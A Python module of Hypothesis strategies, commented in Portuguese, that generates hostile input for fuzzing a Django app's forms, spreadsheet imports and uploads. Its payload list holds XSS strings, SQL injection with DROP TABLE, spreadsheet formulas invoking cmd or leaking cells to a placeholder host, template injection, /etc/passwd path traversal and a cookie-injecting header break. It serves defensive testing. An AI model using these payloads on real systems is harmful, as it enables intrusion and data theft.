"""Estratégias Hypothesis de entrada hostil, para reuso nos testes de formulários e importações.

Uso típico::

    @given(dados=st.fixed_dictionaries({"nome": textos_hostis(), "email": emails_hostis()}))
    def test_formulario_x_sem_500(dados): ...
"""

import os
import string
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Cargas clássicas: HTML/JS, injeção de fórmulas em planilhas (CSV/XLSX), SQL,
# templates, caminhos, quebras de cabeçalho e Unicode traiçoeiro.
CARGAS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "' OR '1'='1' --",
    "'; DROP TABLE candidatos_inscricao; --",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemplo.invalid/?"&A1,"clique")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: sessao=roubada",
    "\x00",
    "\u202egnp.exe",
    "\u200b\u200c\u200d\ufeff",
    "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357\u0358g\u0359o",
    "👩🏿‍⚖️✊🏾🇧🇷",
    "Ǆǅǆ ﬁ ẞ İı",
    "١٢٣٤٥",
    "𝕬𝖑𝖎𝖈𝖊",
    "NaN",
    "-0",
    "1e309",
    "9" * 40,
    "null",
    "true",
)
CARACTERES_DE_CONTROLE = "".join(chr(c) for c in range(32)) + "\x7f"


def cargas() -> st.SearchStrategy[str]:
    return st.sampled_from(CARGAS)


def textos_longos() -> st.SearchStrategy[str]:
    """De um pouco acima dos limites comuns de campo (150, 254, 255) a 20 mil caracteres."""
    return st.builds(
        lambda bloco, vezes: bloco * vezes,
        st.sampled_from(["A", "ç", "👩🏿", "<b>", "=", " ", "\u0301"]),
        st.integers(min_value=150, max_value=20_000),
    )


def textos_hostis() -> st.SearchStrategy[str]:
    """Qualquer coisa que uma pessoa mal-intencionada (ou um sistema quebrado) digitaria."""
    return st.one_of(
        st.text(),
        st.text(alphabet=CARACTERES_DE_CONTROLE, min_size=1),
        cargas(),
        textos_longos(),
        st.tuples(st.text(max_size=20), cargas(), st.text(max_size=20)).map("".join),
        st.lists(cargas(), min_size=2, max_size=5).map("".join),
    )


def emails_hostis() -> st.SearchStrategy[str]:
    """E-mails quase válidos, válidos com cargas e lixo puro."""
    local = st.one_of(
        st.text(alphabet=string.ascii_letters + string.digits + "._+-", min_size=1, max_size=64),
        textos_hostis(),
    )
    dominio = st.one_of(st.sampled_from(["exemplo.gov.br", "exemplo.com", "localhost"]), st.text())
    return st.one_of(
        st.builds(lambda a, b: f"{a}@{b}", local, dominio),
        st.emails(),
        textos_hostis(),
    )


def sem_ilegais_xlsx(texto: str) -> str:
    """O XLSX (XML 1.0) não representa caracteres de controle: o gerador os tira."""
    return ILLEGAL_CHARACTERS_RE.sub("", texto)


def celulas_hostis() -> st.SearchStrategy[object]:
    """Conteúdo de célula de planilha: textos hostis e os tipos que o Excel produz."""
    return st.one_of(
        textos_hostis(),
        st.none(),
        st.integers(),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        st.dates(),
        st.datetimes(),
    )


def celulas_xlsx() -> st.SearchStrategy[object]:
    return celulas_hostis().map(lambda v: sem_ilegais_xlsx(v) if isinstance(v, str) else v)


def linhas_de_planilha(
    celulas: st.SearchStrategy[object], max_linhas: int = 8, max_colunas: int = 6
) -> st.SearchStrategy[list[list[object]]]:
    """Cabeçalho + linhas de tamanhos variados (faltando e sobrando colunas)."""
    return st.integers(min_value=1, max_value=max_colunas).flatmap(
        lambda n: (
            st.lists(
                st.lists(celulas, min_size=0, max_size=n + 2), min_size=0, max_size=max_linhas
            ).map(lambda corpo, n=n: [[f"coluna {i}" for i in range(n)], *corpo])
            | st.lists(
                st.lists(celulas, min_size=0, max_size=n + 2), min_size=1, max_size=max_linhas
            )
        )
    )


# --- Formulários: valores de campo e POSTs inteiros ------------------------------------

NUMEROS_TEXTO = (
    "0",
    "-1",
    "-0",
    "1.5",
    "1,5",
    "8,555",
    "0.0001",
    "1e3",
    "1E+309",
    "1e999999999",
    "-1e999999999",
    "NaN",
    "-NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "9" * 40,
    "9" * 5000,
    "0x1F",
    "1_000",
    "١٢٣",
    "１２３",
    "12,345.67",
    "1.234,56",
    " 7 ",
    "2147483648",
    "-9223372036854775809",
    "18446744073709551616",
)
DATAS_TEXTO = (
    "2026-02-30",
    "2026-13-01",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "31/12/9999",
    "01/01/0001",
    "1899-12-31",
    "2026-03-03T25:61",
    "2026-03-03T09:00",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "2026-03-03 09:00:00+99:00",
    "2026-W10",
    "ontem",
    "١٩٩٠-٠١-٠١",
)


def numeros_hostis() -> st.SearchStrategy[str]:
    """Números como texto: enormes, negativos, NaN, infinitos, outras escritas de dígitos."""
    return st.one_of(
        st.sampled_from(NUMEROS_TEXTO),
        st.integers().map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.floats().map(repr),
    )


def datas_hostis() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(DATAS_TEXTO),
        st.dates().map(str),
        st.datetimes().map(lambda d: d.strftime("%Y-%m-%dT%H:%M")),
    )


def valores_hostis() -> st.SearchStrategy[str]:
    """O valor de um campo qualquer: texto, número ou data hostis."""
    return st.one_of(textos_hostis(), numeros_hostis(), datas_hostis())


AUSENTE = object()


def post_hostil(
    validos: dict[str, Any],
    *,
    por_campo: dict[str, st.SearchStrategy[Any]] | None = None,
) -> st.SearchStrategy[dict[str, Any]]:
    """Um POST a partir de um válido: um campo hostil (os demais válidos), vários
    campos hostis ou ausentes, ou lixo puro com nomes de campo inventados.

    Partir do válido faz a entrada atravessar a validação e chegar aos serviços.
    ``por_campo`` troca a estratégia hostil de campos específicos.
    """
    nomes = sorted(validos)
    especificas = por_campo or {}

    def hostil(nome: str) -> st.SearchStrategy[Any]:
        return especificas.get(nome, valores_hostis())

    def trocar(nome: str, novo: Any) -> dict[str, Any]:
        dados = dict(validos)
        if novo is AUSENTE:
            dados.pop(nome)
        else:
            dados[nome] = novo
        return dados

    um_campo = st.sampled_from(nomes).flatmap(
        lambda nome: st.builds(trocar, st.just(nome), st.one_of(hostil(nome), st.just(AUSENTE)))
    )

    def trocar_varios(trocas: list[tuple[str, Any]]) -> dict[str, Any]:
        dados = dict(validos)
        for nome, novo in trocas:
            dados = trocar(nome, novo) if nome in dados else dados
        return dados

    # Alguns campos de uma vez (sortear todos os campos custaria ms por exemplo).
    varios = st.lists(
        st.sampled_from(nomes).flatmap(
            lambda nome: st.tuples(st.just(nome), st.one_of(hostil(nome), st.just(AUSENTE)))
        ),
        min_size=2,
        max_size=5,
    ).map(trocar_varios)
    lixo = st.lists(
        st.sampled_from([*nomes, "x", "id", "pk"]).flatmap(
            lambda nome: st.tuples(st.just(nome), hostil(nome))
        ),
        max_size=5,
    ).map(dict)
    return st.one_of(st.just(dict(validos)), um_campo, varios, lixo)


def contagens_de_formset(validos: dict[str, Any]) -> dict[str, st.SearchStrategy[Any]]:
    """Campos de gestão dos formsets (``*-TOTAL_FORMS``…) com números pequenos ou lixo.

    Contagens enormes custam segundos por exemplo (o Django monta e redesenha cada
    linha até o limite do formset); têm teste próprio.
    """
    pequenos = st.one_of(st.integers(min_value=-2, max_value=6).map(str), textos_hostis())
    sufixos = ("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")
    return {nome: pequenos for nome in validos if nome.endswith(sufixos)}


def _nome_aceito(nome: str) -> bool:
    """Nome que chega ao formulário como arquivo: o Django trata "", "." e ".." (depois
    de tirar o caminho) como campo sem arquivo, caso já coberto por ``None``."""
    return os.path.basename(nome) not in {"", ".", ".."}


def arquivos_hostis(
    nome: str = "documento.pdf",
    conteudo: bytes = b"%PDF-1.4 documento",
    tipos: tuple[str, ...] = ("application/pdf", "image/png", "text/html", ""),
) -> st.SearchStrategy[SimpleUploadedFile]:
    """Um arquivo de verdade ou um hostil: nome (caminhos, extensões, tamanho), tipo
    declarado e conteúdo (binário qualquer ou com a assinatura de PDF na frente)."""
    nomes = st.one_of(
        st.just(nome),
        textos_hostis().map(lambda t: t[:300]),
        textos_hostis().map(lambda t: t[:300] + ".pdf"),
        st.sampled_from(["../../../etc/passwd.pdf", "a" * 400 + ".pdf", ".pdf", "x.PDF", "x.exe"]),
    ).filter(_nome_aceito)
    return st.one_of(
        st.just(conteudo).map(lambda c: SimpleUploadedFile(nome, c, "application/pdf")),
        st.builds(
            SimpleUploadedFile,
            nomes,
            st.one_of(st.binary(max_size=512), st.binary(max_size=512).map(b"%PDF-".__add__)),
            st.sampled_from(tipos),
        ),
    )
